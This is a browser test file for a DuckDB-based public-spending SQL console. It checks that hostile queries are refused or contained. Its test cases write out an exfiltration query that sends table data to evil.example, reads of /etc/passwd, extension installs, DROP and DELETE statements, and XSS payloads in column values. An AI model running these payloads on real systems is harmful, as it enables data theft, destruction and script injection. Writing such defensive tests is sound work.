import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { BrowserContext, Page } from 'playwright-core';
import { useBrowser, type PageLog } from './browser';
import {
	armStopTimer,
	consoleUrl,
	grid,
	openConsole,
	run,
	setSql,
	stopMs,
	waitExecuting,
	waitReady
} from './sql-helpers';

// Attacks a shared link or a pasted query could carry, run in Chromium on the built site. Each
// must be refused or contained, with no request to another origin and no script executed.
const baseURL = inject('baseURL');
const session = useBrowser();
let context: BrowserContext;
let page: Page;
let log: PageLog;
let dialogs: string[];

beforeAll(async () => {
	({ context, page, log, dialogs } = await openConsole(session.browser, consoleUrl(baseURL)));
	await waitReady(page);
});
afterAll(async () => {
	await context?.close();
});

function clean() {
	expect(log.foreignRequests, 'requests to other origins').toEqual([]);
	expect(log.failedRequests, 'failed requests').toEqual([]);
	expect(dialogs, 'dialogs (a script ran)').toEqual([]);
	expect(log.errors, 'console errors').toEqual([]);
}

async function refusedWith(sql: string, code: string): Promise<string> {
	await setSql(page, sql);
	await run(page);
	const refused = page.getByTestId('sql-refused');
	expect(await refused.getAttribute('data-code')).toBe(code);
	expect(await page.getByTestId('sql-grid').count()).toBe(0);
	return (await refused.textContent()) ?? '';
}

async function threePublic2022(): Promise<string[][]> {
	await setSql(
		page,
		"SELECT amount FROM spending WHERE line_id = 'three_public' AND fiscal_year = 2022 AND stage = 'final'"
	);
	await run(page);
	return (await grid(page)).rows;
}

describe('attack statements are refused before DuckDB sees them', () => {
	it.each([
		[
			'remote read_csv carrying the data out',
			"SELECT * FROM read_csv('https://evil.example/c.csv?d=' || (SELECT string_agg(amount::VARCHAR, ',') FROM spending))",
			'function',
			'read_csv()'
		],
		[
			'a URL as a table (replacement scan)',
			"SELECT * FROM 'https://evil.example/x.parquet'",
			'file',
			'https://evil.example/x.parquet'
		],
		['a quoted function name', 'SELECT * FROM "read_text"(\'/etc/passwd\')', 'function', 'read_text()'],
		['glob over the file system', "SELECT * FROM glob('/**')", 'function', 'glob()'],
		['SQL text run by query()', "SELECT * FROM query('INSTALL httpfs')", 'function', 'query()'],
		['ATTACH over http', "ATTACH 'https://evil.example/evil.duckdb' AS evil", 'statement', 'ATTACH'],
		['INSTALL an extension', 'INSTALL httpfs', 'statement', 'INSTALL'],
		['LOAD an extension', 'LOAD httpfs', 'statement', 'LOAD'],
		['SET enable_external_access', 'SET enable_external_access = true', 'statement', 'SET'],
		['SET lock_configuration', 'SET lock_configuration = false', 'statement', 'SET'],
		['COPY to a URL', "COPY spending TO 'https://evil.example/out.csv'", 'statement', 'COPY'],
		[
			'CREATE OR REPLACE VIEW over an embedded table',
			'CREATE OR REPLACE VIEW spending AS SELECT 0 AS amount',
			'statement',
			'CREATE'
		],
		['UPDATE', 'UPDATE projects SET executed = budget_full_year', 'statement', 'UPDATE'],
		['DELETE', 'DELETE FROM spending', 'statement', 'DELETE'],
		['DROP', 'DROP TABLE environment', 'statement', 'DROP'],
		['several statements in one', 'SELECT 1 /* ; */ ; DROP TABLE spending', 'multiple', '2'],
		[
			'a write hidden after WITH',
			'WITH x AS (SELECT 1) INSERT INTO spending SELECT * FROM spending',
			'statement',
			'INSERT'
		]
	])('%s', async (_name, sql, code, detail) => {
		expect(await refusedWith(sql, code)).toContain(detail);
		clean();
	});

	it('left the embedded tables as they were (2022 三公经费 final still 28.98)', async () => {
		expect(await threePublic2022()).toEqual([['28.98']]);
		clean();
	});
});

describe('attacks the guard lets through are contained', () => {
	it('HTML and script in values and column aliases are shown as text', async () => {
		await setSql(
			page,
			`SELECT '<img src=x onerror=alert(1)>' AS "<script>alert(1)</script>", '<a href="https://evil.example/">x</a><img src="https://evil.example/p.png">' AS "<b onmouseover=alert(2)>b</b>"`
		);
		await run(page);
		const table = await grid(page);
		expect(table.header).toEqual(['<script>alert(1)</script>', '<b onmouseover=alert(2)>b</b>']);
		expect(table.rows).toEqual([
			[
				'<img src=x onerror=alert(1)>',
				'<a href="https://evil.example/">x</a><img src="https://evil.example/p.png">'
			]
		]);
		const results = page.getByTestId('sql-results');
		expect(await results.locator('img, script, a[href], b').count()).toBe(0);
		await page.getByTestId('sql-grid').locator('th').first().hover();
		clean();
	});

	it('a huge result stops at the row cap, with a notice', async () => {
		await setSql(page, 'SELECT * FROM range(100000000) t(i)');
		await run(page);
		expect(await page.getByTestId('sql-capped').textContent()).toContain('100,000');
		expect(await page.getByTestId('sql-meta').getAttribute('data-rows')).toBe('100000');
		clean();
	});

	it('a query that never ends (recursive CTE): Stop gives the interface back within 300 ms', async () => {
		await setSql(
			page,
			'WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t'
		);
		await page.getByTestId('sql-run').click();
		await waitExecuting(page);
		await page.waitForTimeout(1500);
		await armStopTimer(page);
		await page.getByTestId('sql-stop').click();
		expect(await stopMs(page)).toBeLessThan(300);
		expect(await page.getByTestId('sql-stopped').getAttribute('data-reason')).toBe('user');
		// The editor takes input straight away, and the next query runs on the restored database.
		await setSql(page, 'SELECT 42 AS answer');
		expect(await threePublic2022()).toEqual([['28.98']]);
		await waitReady(page);
		clean();
	});

	it('a query that holds the worker (one huge scalar expression, ~1 min): Stop terminates DuckDB and restores it', async () => {
		// One row, one expression: DuckDB evaluates it in a single task, so cancel cannot get in.
		await setSql(page, 'SELECT len(list_distinct(range(20000000)))');
		await page.getByTestId('sql-run').click();
		await waitExecuting(page);
		await page.waitForTimeout(1500);
		await armStopTimer(page);
		await page.getByTestId('sql-stop').click();
		const ms = await stopMs(page);
		expect(ms).toBeLessThan(300);
		expect(await page.getByTestId('sql-stopped').getAttribute('data-restarted')).toBe('true');
		// Rebuilt from the site's own files: the real figures are back, and the console still refuses SET.
		expect(await threePublic2022()).toEqual([['28.98']]);
		await waitReady(page);
		expect(await refusedWith('SET enable_external_access = true', 'statement')).toContain('SET');
		clean();
	});

	it('a huge cross join: Stop gives the interface back within 300 ms', async () => {
		await setSql(
			page,
			'SELECT count(*), sum(a.range * b.range) FROM range(1000000000) a, range(1000000000) b'
		);
		await page.getByTestId('sql-run').click();
		await waitExecuting(page);
		await page.waitForTimeout(1500);
		await armStopTimer(page);
		await page.getByTestId('sql-stop').click();
		expect(await stopMs(page)).toBeLessThan(300);
		expect(await page.getByTestId('sql-stopped').count()).toBe(1);
		expect(await threePublic2022()).toEqual([['28.98']]);
		clean();
	});
});

describe('shared links', () => {
	it('a link carrying a write shows it, says why it will not run, and does not run it', async () => {
		const opened = await openConsole(session.browser, consoleUrl(baseURL, 'DROP TABLE spending'));
		const notice = opened.page.getByTestId('sql-shared-notice');
		expect(await notice.textContent()).toContain('未自动运行');
		expect(await notice.textContent()).toContain('DROP');
		await waitReady(opened.page);
		expect(await opened.page.getByTestId('sql-results').textContent()).toBe('');
		await opened.page.getByTestId('sql-run').click();
		expect(await opened.page.getByTestId('sql-refused').getAttribute('data-code')).toBe('statement');
		expect([opened.log.foreignRequests, opened.log.errors, opened.dialogs]).toEqual([[], [], []]);
		await opened.context.close();
	});

	it('a link carrying a remote read is not run either', async () => {
		const sql = "SELECT * FROM read_csv('https://evil.example/x.csv')";
		const opened = await openConsole(session.browser, consoleUrl(baseURL, sql, 'en'));
		expect(await opened.page.getByTestId('sql-shared-notice').textContent()).toContain('read_csv()');
		await waitReady(opened.page);
		expect(await opened.page.getByTestId('sql-results').textContent()).toBe('');
		expect([opened.log.foreignRequests, opened.log.errors, opened.dialogs]).toEqual([[], [], []]);
		await opened.context.close();
	});

	it('a link carrying HTML in a SELECT runs by itself and still shows text only', async () => {
		const opened = await openConsole(
			session.browser,
			consoleUrl(baseURL, `SELECT '<img src=x onerror=alert(1)>' AS "<script>alert(1)</script>"`)
		);
		await expect
			.poll(async () => (await grid(opened.page)).rows, { timeout: 30000 })
			.toEqual([['<img src=x onerror=alert(1)>']]);
		expect(await opened.page.getByTestId('sql-results').locator('img, script').count()).toBe(0);
		expect([
			opened.log.foreignRequests,
			opened.log.failedRequests,
			opened.log.errors,
			opened.dialogs
		]).toEqual([[], [], [], []]);
		await opened.context.close();
	});
});
